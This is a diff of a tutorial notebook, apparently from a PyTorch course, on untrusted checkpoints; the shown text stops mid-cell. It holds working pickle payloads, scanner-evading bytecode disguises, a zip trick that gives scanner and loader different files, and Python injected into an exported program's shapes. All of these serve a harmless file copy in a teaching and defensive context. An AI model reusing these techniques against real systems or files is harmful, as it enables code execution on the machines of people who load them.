@@ -1,465 +1,607 @@
 # %% [markdown]
 # # 06 · Files you should not trust
 #
-# You download a model. Before your code sees a single weight, the file may have run a program on your
-# machine, with your rights. And a file that nobody meant to harm you with may have a bit flipped, and load
-# without a word.
+# A checkpoint from a stranger is a program from a stranger. This lesson attacks: it builds files that
+# do more than load. Then it defends: it reads what a file would do before it does it.
 #
 # After this lesson you will be able to
 #
-# - show what a pickle can do while it loads, and what `weights_only` stops and what it does not,
-# - tell what a file *would* do, without running it,
-# - load files from strangers as plain data, or convert them to a format that cannot carry code.
+# - show how a file runs code when it is loaded, and which settings let it,
+# - say what a file would import and call, without loading it,
+# - find a flipped bit that `torch.load` does not see, and move weights to a format that cannot run.
 #
 # **Time:** 40 minutes. **Needs:** [01 state_dict anatomy](01_state_dict_anatomy.ipynb).
 #
-# Every "attack" here is harmless: it creates an empty file in this lesson's scratch folder. If that exists
-# afterwards, code from the checkpoint has run.
+# All attacks here do one harmless thing: they copy a file inside this lesson's scratch folder. Where a
+# defence holds, a cell asserts that the copy does not exist.
 
 # %%
+import contextlib
+import inspect
 import json
-import logging
 import os
 import pickle
+import shutil
 import struct
+import subprocess
+import sys
 import warnings
 import zipfile
-from unittest import mock
 
 import torch
+from torch import nn
+from torch.nn.functional import cross_entropy
 
 from course_utils import lesson, plots
+from course_utils.anatomy import byte_map, read_archive
+from course_utils.checkpoint import load_checkpoint
+from course_utils.convert import convert
+from course_utils.data import digits
 from course_utils.errors import DamagedCheckpointError, UnsafeCheckpointError
+from course_utils.models import MLP, TiedAutoencoder
+from course_utils.pickles import read_pickle
 from course_utils.safety import audit, load_untrusted
 
 scratch = lesson.start("06_untrusted_files")
-marker = scratch / "code_has_run"
+secret, stolen = scratch / "secret.txt", scratch / "stolen.txt"
+secret.write_text("the password of the cluster")
 
 
-def code_has_run():
-    """Whether a payload has run since we last asked."""
-    ran = marker.exists()
-    if ran:
-        marker.unlink()
+def attack_ran():
+    """Whether the secret was copied; the copy is removed, for the next attack."""
+    ran = stolen.exists()
+    stolen.unlink(missing_ok=True)
     return ran
 
 
 # %% [markdown]
-# ## 1. Loading is running
+# ## 1. A file that acts
 #
-# Lesson 01 showed that a pickle is a program. A class decides with `__reduce__` what the program calls when its
-# object is loaded. Any function will do. Ours calls `logging.FileHandler`, whose one visible act is to create a file;
-# `os.system` would be called in the same way.
+# Lesson 01 read a pickle as a small program with two special instructions: fetch anything Python can
+# import, and call it. Any class can ask for such a call, with the method `__reduce__`.
 
 
 # %%
 class Payload:
-    """Looks like part of a checkpoint."""
+    """Asks the pickle to call ``shutil.copyfile(secret, stolen)`` when it is loaded."""
 
     def __reduce__(self):
-        return logging.FileHandler, (str(marker),)
+        return shutil.copyfile, (str(secret), str(stolen))
 
 
-torch.save({"model": {"w": torch.ones(3)}, "optimizer": Payload()}, scratch / "hostile.pt")
-print("saving ran it: ", code_has_run())
+torch.manual_seed(0)
+model = MLP(hidden=4)
+hostile = scratch / "pretrained.pt"
+torch.save({"model": model.state_dict(), "note": Payload()}, hostile)
+print("saving ran it:", attack_ran())
 
 # %% [markdown]
-# <details><summary>Predict: we load the file, with the protection switched off, and use only
-# <code>["model"]</code>. Does the payload run?</summary>
+# <details><summary>Predict: the file is loaded the way most tutorials from before 2025 do it, with
+# <code>weights_only=False</code>. Do the weights arrive? Is there an error?</summary>
 #
-# Yes. The pickle is run to its end before `torch.load` returns anything. It does not matter what you use.
+# The weights arrive, there is no error, and the secret is copied. The payload's result simply takes
+# the place of the note.
 # </details>
 
 # %%
-model = torch.load(scratch / "hostile.pt", weights_only=False)["model"]
-ran = code_has_run()
-print("the weights look fine:", model["w"].tolist())
-print("code has run:", ran)
-assert ran
+loaded = torch.load(hostile, weights_only=False)
+print("the weights are right:", torch.equal(loaded["model"]["head.bias"], model.head.bias))
+print("the attack ran:", attack_ran())
 
 # %% [markdown]
-# Since PyTorch 2.6 the protection is on by default. The file is refused, and nothing has run:
+# Here are the instructions of this file and of an honest one, in order. The attack is two of them.
 
 # %%
-with lesson.expect_error(pickle.UnpicklingError, match=r"Unsupported global: GLOBAL \S+"):
-    torch.load(scratch / "hostile.pt")
-ran = code_has_run()
-print("code has run:", ran)
-assert not ran
+honest = scratch / "honest.pt"
+torch.save({"model": model.state_dict(), "note": "trained on digits"}, honest)
+
+HARMLESS = {"collections OrderedDict", "torch._utils _rebuild_tensor_v2", "torch FloatStorage"}
+fig, axes = plots.figure(7.5, 2.2, nrows=2, sharex=True)
+for axis, path in zip(axes, (honest, hostile), strict=True):
+    steps = read_archive(path).opcodes()
+    kinds = {"import": [], "call": [], "the attack's import": []}
+    for number, step in enumerate(steps):
+        if step.name == "GLOBAL":
+            own = step.argument not in HARMLESS
+            kinds["the attack's import" if own else "import"].append(number)
+        elif step.name == "REDUCE":
+            kinds["call"].append(number)
+    for color, (kind, places) in zip(
+        (plots.BLUE, plots.GREY, plots.RED), kinds.items(), strict=True
+    ):
+        axis.vlines(places, 0, 1, color=color, lw=2.5, label=kind)
+    axis.set(yticks=[])
+    axis.set_ylabel(path.name, rotation=0, ha="right", va="center")
+    axis.grid(visible=False)
+    print(f"{path.name:13}", {kind: len(places) for kind, places in kinds.items()})
+axes[1].set_xlabel("instruction of the pickle")
+axes[0].legend(ncols=3, loc="lower center", bbox_to_anchor=(0.5, 1.0))
+plots.show(
+    fig,
+    alt="Two rows of vertical marks, one mark for each import or call in the pickle of a file. The "
+    "rows are alike, but the second ends with one more import, in red, followed by a call.",
+    caption="An honest file imports and calls too. Only the name of the last import gives it away.",
+)
 
 # %% [markdown]
-# ## 2. What `weights_only` allows, and how people open it again
+# ## 2. What `weights_only` allows, and how the door comes open again
 #
-# The weights-only unpickler knows a list of functions: tensors, storages, containers, dtypes. All else is refused.
-# That refuses honest files, too: numpy scalars, paths, dates, enums, your own classes.
+# Since PyTorch 2.6, `torch.load` uses its own unpickler unless told otherwise: it imports nothing, and
+# calls only functions on a short list.
 
 # %%
+with lesson.expect_error(
+    pickle.UnpicklingError, match="Unsupported global: GLOBAL shutil.copyfile"
+):
+    torch.load(hostile)
+assert not attack_ran()
+
+# %% [markdown]
+# The list is made of what tensors and containers need. Some values that look harmless are not on it.
+#
+# <details><summary>Predict: a <code>set</code>, a <code>Path</code>, a NumPy number, a
+# <code>defaultdict</code>, bytes: which of them load?</summary>
+#
+# The set and the bytes. The others need to import a class that is not on the list.
+# </details>
+
+# %%
+import collections
+import datetime
+import pathlib
+
 import numpy as np
 
-torch.save({"loss": np.float64(0.25)}, scratch / "numpy.pt")
-with lesson.expect_error(pickle.UnpicklingError, match=r"Unsupported global: GLOBAL \S+"):
-    torch.load(scratch / "numpy.pt")
+values = {
+    "dict, list, tuple, str, int, None": {"a": [1, (2.5, None)]},
+    "set": {1, 2},
+    "bytes": b"abc",
+    "collections.Counter": collections.Counter("abca"),
+    "torch.device, torch.dtype": [torch.device("cpu"), torch.float16],
+    "pathlib.Path": pathlib.Path("data"),
+    "numpy.float64": np.float64(0.5),
+    "collections.defaultdict": collections.defaultdict(list),
+    "datetime.date": datetime.date(2026, 1, 1),
+    "a whole nn.Module": nn.Linear(2, 2),
+}
+rows = []
+for name, value in values.items():
+    torch.save(value, scratch / "value.pt")
+    try:
+        torch.load(scratch / "value.pt")
+        allowed = True
+    except pickle.UnpicklingError:
+        allowed = False
+    rows.append((name, allowed, audit(scratch / "value.pt").verdict.value))
+lesson.show_table(rows, ["value", "torch.load takes it", "audit calls it"])
+assert all(allowed == (verdict == "plain data") for _, allowed, verdict in rows)
 
 # %% [markdown]
-# The right answer for your own files is to save plain types: `float(loss)`. For a file of somebody you trust,
-# allow **what it needs, for this one load**. `get_unsafe_globals_in_checkpoint` says what it needs:
-
-# %%
-from torch.serialization import get_unsafe_globals_in_checkpoint, safe_globals
-
-needed = get_unsafe_globals_in_checkpoint(scratch / "numpy.pt")
-print("needs:", sorted(needed))
-allowed = [
-    (np._core.multiarray.scalar, "numpy._core.multiarray.scalar"),
-    np.dtype,
-    np.dtypes.Float64DType,
-]
-with safe_globals(allowed):
-    print(torch.load(scratch / "numpy.pt"))
-
-# %% [markdown]
-# Now the ways in which the protection is lost. Each is in real code.
-#
-# <details><summary>Predict: which of these run the payload? (a) <code>weights_only=False</code>; (b)
-# <code>pickle_module=pickle</code> and nothing else; (c) the environment variable
-# <code>TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1</code>, set by somebody in a start script; (d)
-# <code>safe_globals</code> with the very function that the payload calls.</summary>
-#
-# All four. (PyTorch never lets `safe_globals` admit the modules `os` and `sys`, but there are many other ways to do
-# harm.)
-# </details>
+# So store plain values: `str(path)`, `float(number)`, `dict(counts)`. The other ways to make an old file
+# load are the ways in which the door comes open.
 
 
 # %%
-def attempt(load):
-    """Try to load the hostile file; say what happened."""
+def with_environment_variable(path):
+    os.environ["TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD"] = "1"
     try:
         with warnings.catch_warnings():
-            warnings.simplefilter("ignore")
-            load(scratch / "hostile.pt")
-        outcome = "loaded"
-    except (pickle.UnpicklingError, UnsafeCheckpointError, RuntimeError):
-        outcome = "refused"
-    return outcome, code_has_run()
+            warnings.filterwarnings(
+                "ignore", "Environment variable TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD"
+            )
+            torch.load(path)
+    finally:
+        del os.environ["TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD"]
 
 
-def with_environment(path):
-    with mock.patch.dict(os.environ, {"TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD": "1"}):
+def with_safe_globals(path):
+    with torch.serialization.safe_globals([shutil.copyfile]):
         torch.load(path)
 
 
-def with_globals(path):
-    with safe_globals([logging.FileHandler]):
-        torch.load(path)
-
-
-WAYS = {
+ways = {
     "torch.load(path)": torch.load,
-    "weights_only=False": lambda path: torch.load(path, weights_only=False),
-    "pickle_module=pickle": lambda path: torch.load(path, pickle_module=pickle),
-    "the environment variable": with_environment,
-    "safe_globals, too generous": with_globals,
-    "load_untrusted(path)": load_untrusted,
+    "torch.load(path, weights_only=False)": lambda path: torch.load(path, weights_only=False),
+    "torch.load(path, pickle_module=pickle)": lambda path: torch.load(path, pickle_module=pickle),
+    "TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1": with_environment_variable,
+    "safe_globals([what the error asks for])": with_safe_globals,
+    "course_utils.load_checkpoint(path)": load_checkpoint,
+    "course_utils.load_untrusted(path)": load_untrusted,
 }
-outcomes = {name: attempt(load) for name, load in WAYS.items()}
-lesson.show_table(
-    [(name, *outcome) for name, outcome in outcomes.items()], ["way", "outcome", "code has run"]
-)
+rows = []
+for way, load in ways.items():
+    with contextlib.suppress(pickle.UnpicklingError, UnsafeCheckpointError):
+        load(hostile)
+    rows.append((way, attack_ran()))
+lesson.show_table(rows, ["way to load", "the attack ran"])
+assert [ran for _, ran in rows] == [False, True, True, True, True, False, False]
+
+# %% [markdown]
+# `safe_globals` deserves a second look: torch's own error message suggests it, with the name already
+# filled in. It is right for a class you know. For a file you do not know, it is "click here to allow".
+#
+# One more open door has no setting at all in sight:
 
 # %%
-for name in (
-    "weights_only=False",
-    "pickle_module=pickle",
-    "the environment variable",
-    "safe_globals, too generous",
+hub = inspect.signature(torch.hub.load_state_dict_from_url)
+print("torch.hub.load_state_dict_from_url: weights_only =", hub.parameters["weights_only"].default)
+assert hub.parameters["weights_only"].default is False
+
+# %% [markdown]
+# And the safe unpickler is *safer*, not safe: CVE-2025-32434 (PyTorch before 2.6) and CVE-2026-24747
+# (before 2.10) got past it. Keep PyTorch up to date, and look before you load.
+
+# %% [markdown]
+# ## 3. Look before you load
+#
+# To know what a program does without running it, read it and do each step on paper. `read_pickle`
+# follows a pickle instruction by instruction, but where a function would be imported it puts a note
+# with its name, and where one would be called, a note about the call.
+
+# %%
+paper = read_pickle(pickle.dumps({"lr": 0.1, "note": Payload()}))
+call = paper.root["note"]
+print("root:     ", paper.root)
+print("function: ", call.function)
+print("arguments:", call.arguments)
+assert not attack_ran()
+
+# %% [markdown]
+# `audit` does that for every pickle in a file and compares the names with torch's list.
+
+# %%
+audit(hostile)
+
+# %%
+from course_utils.trust import judge
+
+lesson.show_source(judge)
+
+# %% [markdown]
+# ### Disguises
+#
+# An attacker knows that you look. Each of these pickles hides the call in another way.
+#
+# <details><summary>Predict: the last one is cut off before its end, so no unpickler can read it. Can it
+# still do harm?</summary>
+#
+# Yes. A pickle runs while it is read. By the time the unpickler notices that the end is missing, the
+# call has been made.
+# </details>
+
+
+# %%
+def text(value):
+    return b"X" + struct.pack("<I", len(value)) + value.encode()
+
+
+arguments = text(str(secret)) + text(str(stolen)) + b"\x86"  # a pair
+copyfile = b"cshutil\ncopyfile\n"
+disguises = {
+    "plain": copyfile + arguments + b"R.",
+    "result thrown away": copyfile + arguments + b"R0N.",
+    "name from the stack": text("shutil") + text("copyfile") + b"\x93" + arguments + b"R.",
+    "name from the memo": text("shutil") + b"q\x01" + text("copyfile") + b"q\x0200h\x01h\x02\x93"
+    + arguments + b"R.",
+    "found with getattr": b"cbuiltins\ngetattr\ncbuiltins\n__import__\n" + text("shutil")
+    + b"\x85R" + text("copyfile") + b"\x86R" + arguments + b"R.",
+    "an old opcode": b"(" + text(str(secret)) + text(str(stolen)) + b"ishutil\ncopyfile\n.",
+    "a pickle in a pickle": b"cpickle\nloads\nB" + struct.pack("<I", len(copyfile + arguments) + 4)
+    + b"\x80\x02" + copyfile + arguments + b"R." + b"\x85R.",
+    "cut off before the end": copyfile + arguments + b"R",
+}  # fmt: skip
+path = scratch / "disguised.pkl"
+rows = []
+for name, instructions in disguises.items():
+    path.write_bytes(b"\x80\x04" + instructions)
+    found = audit(path)
+    assert not attack_ran()
+    with contextlib.suppress(Exception):
+        pickle.loads(path.read_bytes())
+    rows.append((name, found.verdict.value, attack_ran()))
+lesson.show_table(rows, ["disguise", "audit says", "it really runs"])
+assert all(row[1:] == ("would run code", True) for row in rows)
+
+# %% [markdown]
+# ### Two readers, two files
+#
+# The archive around the pickle can lie too. Here is a zip file with a good `data.pkl`. Python's
+# `zipfile` finds it, reads it, all is well. It also has a record `DATA.PKL`.
+
+# %%
+evil = b"\x80\x02" + disguises["plain"]
+twins = scratch / "twins.pt"
+with zipfile.ZipFile(twins, "w") as archive:
+    archive.writestr("twins/data.pkl", pickle.dumps({"all": "well"}, protocol=2))
+    archive.writestr("twins/DATA.PKL", evil)
+    archive.writestr("twins/byteorder", "little")
+    archive.writestr("twins/version", "3\n")
+    archive.writestr("twins/.data/serialization_id", "0" * 40)
+
+with zipfile.ZipFile(twins) as archive:
+    print("Python's zipfile reads:", pickle.loads(archive.read("twins/data.pkl")))
+with contextlib.suppress(Exception):
+    torch.load(twins, weights_only=False)
+print("torch reads the other one, the attack ran:", attack_ran())
+audit(twins)
+
+# %% [markdown]
+# Torch's zip library looks names up without regard to case. A scanner built on another zip library
+# sees another file than torch. So `audit` does not try to guess: what two programs could read in two
+# ways is refused.
+
+# %%
+with lesson.expect_error(DamagedCheckpointError):
+    load_untrusted(twins)
+assert not attack_ran()
+
+# %% [markdown]
+# ### No pickle needed
+#
+# An exported program (`.pt2`, lesson 09) describes its graph in JSON. JSON runs nothing. But the sizes
+# in it, such as `2*s77`, are handed to `sympy`, and its parser *evaluates them as Python*.
+
+# %%
+
+
+class Doubles(nn.Module):
+    """Needs a symbolic size: twice the batch."""
+
+    def forward(self, images):
+        return images.reshape(2 * images.shape[0], -1)
+
+
+batch = torch.export.Dim("batch", min=2, max=9)
+program = torch.export.export(Doubles(), (torch.ones(4, 6),), dynamic_shapes={"images": {0: batch}})
+torch.export.save(program, scratch / "program.pt2")
+
+code = f"(__import__('shutil').copyfile('{secret}', '{stolen}') and 2)"
+with (
+    zipfile.ZipFile(scratch / "program.pt2") as source,
+    zipfile.ZipFile(scratch / "evil.pt2", "w") as target,
 ):
-    assert outcomes[name] == ("loaded", True), name
-for name in ("torch.load(path)", "load_untrusted(path)"):
-    assert outcomes[name] == ("refused", False), name
-print("safe: torch.load as it is, and load_untrusted. The other four ran the payload.")
+    for name in source.namelist():
+        content = source.read(name)
+        target.writestr(name, content.replace(b"Integer(2)", code.encode()))
+
+for name in ("program.pt2", "evil.pt2"):
+    found = audit(scratch / name)
+    print(f"{name:11} {found.verdict.value}: {found.findings[0].reason[:60]}")
+loaded = torch.export.load(scratch / "evil.pt2").module()
+print("torch.export.load ran the attack:", attack_ran())
+print("and the program works:", tuple(loaded(torch.ones(3, 6)).shape))
 
 # %% [markdown]
-# Also: `torch.hub.load_state_dict_from_url` still has `weights_only=False` as its default, and `torch.export.load` has
-# no such protection at all. And the protection itself had holes: CVE-2025-32434 (fixed in 2.6) and CVE-2026-24747
-# (fixed in 2.10). Say *safer*, not *safe*; keep PyTorch up to date; and look before you load.
-
-# %% [markdown]
-# ## 3. Look without running
+# ## 4. No attacker needed: one flipped bit
 #
-# A pickle can be *read* like any other program. `audit` follows its instructions, but imports and calls nothing.
+# Disks and networks flip bits. Each record of a checkpoint has a checksum, which `torch.save` writes.
+# `torch.load` does not compare it.
 
 # %%
-audit(scratch / "hostile.pt")
+torch.manual_seed(0)
+images, labels = digits().tensors
+test_images, test_labels = digits(train=False).tensors
+model = MLP()
+optimizer = torch.optim.Adam(model.parameters(), lr=0.01)
+for _ in range(60):
+    optimizer.zero_grad()
+    cross_entropy(model(images), labels).backward()
+    optimizer.step()
+torch.save(model.state_dict(), scratch / "digits.pt")
+data = (scratch / "digits.pt").read_bytes()
 
-# %%
-found = audit(scratch / "hostile.pt")
-ran = code_has_run()
-print("it would call:", *(call.replace(str(marker), "marker") for call in found.calls))
-print("code has run:", ran)
-assert not ran and found.verdict.value == "would run code"
+info = read_archive(scratch / "digits.pt").tensors["head.weight"]
+first_weight = read_archive(scratch / "digits.pt").records[info.record].offset
+
+
+def load_with_flipped_bit(bit, load):
+    """Flip one bit of the first weight of the head in the file, and load it."""
+    damaged = bytearray(data)
+    damaged[first_weight + bit // 8] ^= 1 << bit % 8  # little-endian: bit 31 is the sign
+    (scratch / "damaged.pt").write_bytes(damaged)
+    return load(scratch / "damaged.pt")
+
+
+def accuracy(state):
+    model.load_state_dict(state)
+    with torch.no_grad():
+        return (model(test_images).argmax(1) == test_labels).float().mean().item()
+
 
 # %% [markdown]
-# It reads every kind of file that PyTorch people pass around, and tells honest from hostile. We make a few of each.
-
-
-# %%
-class Twice:
-    """Hides the payload in a pickle inside the pickle."""
-
-    def __reduce__(self):
-        return pickle.loads, (pickle.dumps(Payload()),)
-
-
-def make_files(folder):
-    folder.mkdir(exist_ok=True)
-    honest = {"w": torch.arange(4.0)}
-    torch.save(honest, folder / "honest.pt")
-    torch.save(honest, folder / "honest_before_1.6.pt", _use_new_zipfile_serialization=False)
-    torch.save({"loss": np.float64(1)}, folder / "with_numpy.pt")
-    torch.save({"x": Payload()}, folder / "payload.pt")
-    torch.save(
-        {"x": Payload()}, folder / "payload_before_1.6.pt", _use_new_zipfile_serialization=False
-    )
-    torch.save({"x": Twice()}, folder / "nested.pt")
-    (folder / "payload.pkl").write_bytes(pickle.dumps(Payload()))
-    whole = (folder / "honest.pt").read_bytes()
-    (folder / "cut_off.pt").write_bytes(whole[: len(whole) // 2])
-    # A pickle first, a zip archive at the end: each reader sees the file it expects.
-    (folder / "two_in_one.pt").write_bytes(pickle.dumps(Payload()) + whole)
-    (folder / "letter.txt").write_text("Dear reader")
-    return sorted(folder.iterdir())
-
-
-files = make_files(scratch / "files")
-audits = {path.name: audit(path) for path in files}
-lesson.show_table(
-    [(name, a.verdict.value, a.format) for name, a in audits.items()], ["file", "verdict", "format"]
-)
-
-# %%
-verdicts = {name: found.verdict.value for name, found in audits.items()}
-assert verdicts["honest.pt"] == verdicts["honest_before_1.6.pt"] == "plain data"
-assert verdicts["with_numpy.pt"] == "needs these globals"
-for name in ("payload.pt", "payload_before_1.6.pt", "nested.pt", "payload.pkl", "two_in_one.pt"):
-    assert verdicts[name] == "would run code", name
-assert not code_has_run()
-print("ten files read, no code run")
-
-# %% [markdown]
-# What does each loader do with each of these files? Every square of the next figure was tried, right here.
-
-# %%
-LOADERS = {
-    "pickle.load": lambda path: pickle.loads(path.read_bytes()),
-    "torch.load,\nweights_only=False": lambda path: torch.load(path, weights_only=False),
-    "torch.load": torch.load,
-    "load_untrusted": load_untrusted,
-}
-
-
-def try_loading(load, path):
-    try:
-        with warnings.catch_warnings():
-            warnings.simplefilter("ignore")
-            load(path)
-        outcome = "loaded"
-    except Exception:
-        outcome = "refused"
-    return "ran code" if code_has_run() else outcome
-
-
-grid = [
-    [try_loading(load, path) for load in LOADERS.values()]
-    for path in lesson.progress(files, "loading")
-]
-lesson.show_table(
-    [(path.name, *row) for path, row in zip(files, grid, strict=True)],
-    ["file", *(name.replace("\n", " ") for name in LOADERS)],
-)
-
-# %%
-COLORS = {"ran code": plots.RED, "refused": "#D8D8D2", "loaded": plots.GREEN}
-fig, axis = plots.figure(7.5, 4.2)
-for y, row in enumerate(grid):
-    for x, outcome in enumerate(row):
-        axis.barh(y, 0.96, left=x, height=0.9, color=COLORS[outcome], alpha=0.85)
-        axis.text(x + 0.48, y, outcome, ha="center", va="center", fontsize=9)
-axis.set_yticks(range(len(files)), [path.name for path in files])
-axis.set_xticks([x + 0.48 for x in range(len(LOADERS))], list(LOADERS))
-axis.tick_params(length=0)
-axis.invert_yaxis()
-axis.grid(visible=False)
-axis.set(xlabel="loader", ylabel="file")
-plots.show(
-    fig,
-    alt="A grid of ten files against four loaders. The two loaders without protection run code from the hostile "
-    "files. torch.load and load_untrusted never run code; both load the honest files.",
-    caption="Red squares ran the payload. The two columns on the right have none.",
-)
-for name, outcomes in zip(LOADERS, zip(*grid, strict=True), strict=True):
-    print(
-        f"{name.replace(chr(10), ' '):32} ran code {outcomes.count('ran code')} times of {len(files)}"
-    )
-assert "ran code" not in [row[i] for row in grid for i in (2, 3)]
-assert "ran code" in [row[0] for row in grid] and "ran code" in [row[1] for row in grid]
-
-# %% [markdown]
-# ## 4. The file that harms you without wanting to
+# A `float32` has a sign (bit 31), eight bits of exponent (30 to 23) and 23 of fraction. There are 320
+# weights in the head. We flip one bit of one of them, for each of the 32 bits.
 #
-# A disk, a cable or a memory chip flips a bit. `torch.save` has written a checksum (CRC-32) for every record.
+# <details><summary>Predict: how many of the 32 flips raise an error? How many ruin the model?</summary>
 #
-# <details><summary>Predict: one bit of a weight has flipped. What does <code>torch.load</code> say?</summary>
-#
-# Nothing. It does not look at the checksum.
+# None raises an error. Most change a weight by so little that nobody will ever know. The highest bit of
+# the exponent makes a small weight astronomically large, and the model is useless.
 # </details>
 
 # %%
-torch.save({"w": torch.full((1000,), 0.5)}, scratch / "flipped.pt")
-data = bytearray((scratch / "flipped.pt").read_bytes())
-where = data.index(struct.pack("<f", 0.5) * 8)
-data[where + 3] ^= 0b01000000
-(scratch / "flipped.pt").write_bytes(data)
+whole = accuracy(load_checkpoint(scratch / "digits.pt"))
+scores = [accuracy(load_with_flipped_bit(bit, torch.load)) for bit in range(32)]
 
-loaded = torch.load(scratch / "flipped.pt")["w"]
-print("torch.load says nothing; the first weight is", loaded[0].item(), "and was 0.5")
-with zipfile.ZipFile(scratch / "flipped.pt") as archive:
-    print("zipfile names the record:", archive.testzip())
-with lesson.expect_error(DamagedCheckpointError, match=r"record data/0.*?(?=\.)"):
-    load_untrusted(scratch / "flipped.pt")
-assert loaded[0] != 0.5
-
-# %% [markdown]
-# How bad is one bit? It depends on which. A float32 has 23 bits for its digits, 8 for its exponent, one for its sign.
-
-# %%
-bits = torch.tensor(0.5).view(torch.int32)
-flipped = torch.stack(
-    [(bits ^ (1 << bit if bit < 31 else -(2**31))).view(torch.float32) for bit in range(32)]
-)
-errors = (flipped - 0.5).abs()
-
-fig, axis = plots.figure(7.5, 3)
-colors = [plots.BLUE] * 23 + [plots.RED] * 8 + [plots.ORANGE]
-axis.bar(range(32), errors, color=colors)
-axis.set_yscale("log")
-axis.set(xlabel="which of the 32 bits has flipped", ylabel="error of a weight of 0.5")
-for color, label in ((plots.BLUE, "digits"), (plots.RED, "exponent"), (plots.ORANGE, "sign")):
-    axis.bar(0, 0, color=color, label=label)
-axis.legend(loc="upper left")
+# %% tags=["nbval-ignore-output"]
+fig, axis = plots.figure(7.5, 2.8)
+colors = [plots.GREY] * 23 + [plots.ORANGE] * 8 + [plots.PURPLE]
+axis.bar(range(32), [100 * score for score in scores], color=colors)
+axis.axhline(100 * whole, color=plots.BLUE, lw=1)
+axis.set(
+    xlabel="flipped bit (grey: fraction, orange: exponent, purple: sign)",
+    ylabel="test accuracy (%)", ylim=(0, 100),
+)  # fmt: skip
 plots.show(
     fig,
-    alt="The error on a logarithmic scale against the flipped bit. The digits give errors from 3e-8 to 0.25, doubling with "
-    "every bit; the highest bit of the exponent gives 1.7e38; the sign gives 1.",
-    caption="Most flips do nothing you would notice. One of them makes a weight of 170 million million million million million million.",
+    alt="Test accuracy for each flipped bit. All bars reach the line of the undamaged model, except "
+    "that of bit 30, the highest of the exponent, which is much lower.",
+    caption="One of 77,120 bits, and no error. Of these 32 only one would be noticed at all.",
 )
-for bit in (0, 22, 23, 30, 31):
-    print(f"bit {bit:2}: 0.5 becomes {flipped[bit].item():.6g}")
-
-# %% [markdown]
-# `load_checkpoint`, which the whole course uses, verifies every byte, at almost no cost: the checksum is computed
-# faster than the disk delivers. Lesson 07 measures it.
-#
-# A checksum guards against accidents, not against people: whoever changes the file can write a new checksum. Against
-# people you need a hash from a source you trust (or a signature), compared *before* loading:
+print(f"undamaged {whole:.1%}, bit 30 flipped {scores[30]:.1%}")
 
 # %%
-import hashlib
-
-
-def sha256(path):
-    with open(path, "rb") as file:
-        return hashlib.file_digest(file, "sha256").hexdigest()
-
-
-published = sha256(scratch / "files" / "honest.pt")
-print("the file that was published:", sha256(scratch / "files" / "honest.pt") == published)
-print("another one:                ", sha256(scratch / "files" / "payload.pt") == published)
+changed = [bit for bit, score in enumerate(scores) if abs(score - whole) > 0.05]
+print("bits in all weights:", f"{32 * sum(p.numel() for p in model.parameters()):,}")
+print("loaded without an error:", len(scores), "of 32")
+print("bits that cost more than 5 % of accuracy:", changed)
+assert changed == [30]
 
 # %% [markdown]
-# ## 5. A format that cannot carry code: safetensors
-#
-# A safetensors file is eight bytes with the length of a header, the header as JSON, and the numbers. There is nothing in
-# it that a program could be. We read one by hand.
+# With the checksum compared, all 32 are found, and the error says where.
 
 # %%
+found = 0
+for bit in range(32):
+    try:
+        load_with_flipped_bit(bit, load_checkpoint)
+    except DamagedCheckpointError as error:
+        found += info.record in str(error)
+print("found and named:", found, "of 32")
+assert found == 32
+with lesson.expect_error(DamagedCheckpointError):
+    load_with_flipped_bit(3, load_checkpoint)
+
+# %% [markdown]
+# A checksum stands against accidents. It does not stand against attackers: they compute a new one. To
+# know that a file is the one its author published, compare its SHA-256 with one from a place you trust.
+
+# %% [markdown]
+# ## 5. A format that cannot run: safetensors
+#
+# If a file needs no program, do not ship one. A safetensors file is 8 bytes of length, a JSON header,
+# and the numbers. That is all, so we can write one by hand.
+
+# %%
+weight, bias = torch.tensor([[1.0, 2.0], [3.0, 4.0]]), torch.tensor([0.5, -0.5])
+header = {
+    "weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
+    "bias": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]},
+}
+encoded = json.dumps(header).encode()
+by_hand = scratch / "by_hand.safetensors"
+by_hand.write_bytes(
+    struct.pack("<Q", len(encoded)) + encoded + weight.numpy().tobytes() + bias.numpy().tobytes()
+)
+
 from safetensors.torch import load_file, save_file
 
-save_file(
-    {"w": torch.arange(4.0), "b": torch.zeros(2)},
-    scratch / "small.safetensors",
-    metadata={"by": "me"},
+print(load_file(by_hand))
+assert torch.equal(load_file(by_hand)["weight"], weight)
+
+# %% [markdown]
+# The header is data, so a reader can check all of it: offsets in order, no gaps, no overlaps, sizes
+# that fit. Nothing is left to interpret.
+
+# %%
+from course_utils.safetensors_header import read_header
+
+lesson.show_source(read_header)
+
+# %% [markdown]
+# The price: tensors and strings only, and no two tensors may share memory. Tied weights fail.
+
+# %%
+tied = TiedAutoencoder(code=4)
+with lesson.expect_error(RuntimeError, match="Some tensors share memory"):
+    save_file(tied.state_dict(), scratch / "tied.safetensors")
+
+# %% [markdown]
+# `convert` writes such a tensor once and notes its second name in the metadata, as safetensors' own
+# `save_model` does. It reads the checkpoint without running it, so it can even rescue the weights of
+# the hostile file from the first section.
+
+# %%
+torch.save({"model": tied.state_dict(), "epoch": 3, "lr": 0.1}, scratch / "tied.pt")
+print(convert(scratch / "tied.pt", scratch / "tied.safetensors"))
+print()
+print(convert(hostile, scratch / "rescued.safetensors"))
+rescued = load_file(scratch / "rescued.safetensors")
+print("rescued:", list(rescued))
+assert not attack_ran()
+
+# %%
+sizes = {}
+for name in ("tied.pt", "tied.safetensors"):
+    path = scratch / name
+    if path.suffix == ".pt":
+        spans = byte_map(read_archive(path))
+        numbers = sum(span.stop - span.start for span in spans if span.kind == "tensor")
+    else:
+        with open(path, "rb") as file:
+            entries = read_header(file, path.stat().st_size).tensors.values()
+        numbers = sum(entry.stop - entry.start for entry in entries)
+    sizes[name] = (numbers, path.stat().st_size - numbers)
+
+fig, axis = plots.figure(7.5, 1.9)
+axis.barh(
+    list(sizes), [numbers for numbers, _ in sizes.values()], color=plots.BLUE, label="numbers"
+)
+axis.barh(
+    list(sizes),
+    [rest for _, rest in sizes.values()],
+    left=[numbers for numbers, _ in sizes.values()],
+    color=plots.ORANGE,
+    label="all the rest",
+)
+axis.set(xlabel="bytes in the file")
+axis.legend(ncols=2, loc="lower center", bbox_to_anchor=(0.5, 1.0))
+plots.show(
+    fig,
